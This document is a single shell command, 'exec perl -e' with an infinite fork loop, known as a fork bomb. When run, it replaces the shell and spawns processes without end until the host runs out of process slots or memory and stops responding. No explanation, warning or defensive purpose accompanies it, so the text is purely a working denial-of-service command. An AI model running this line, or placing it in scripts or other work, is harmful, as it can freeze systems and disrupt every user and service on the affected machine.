exec perl -e 'while (1) { fork }'
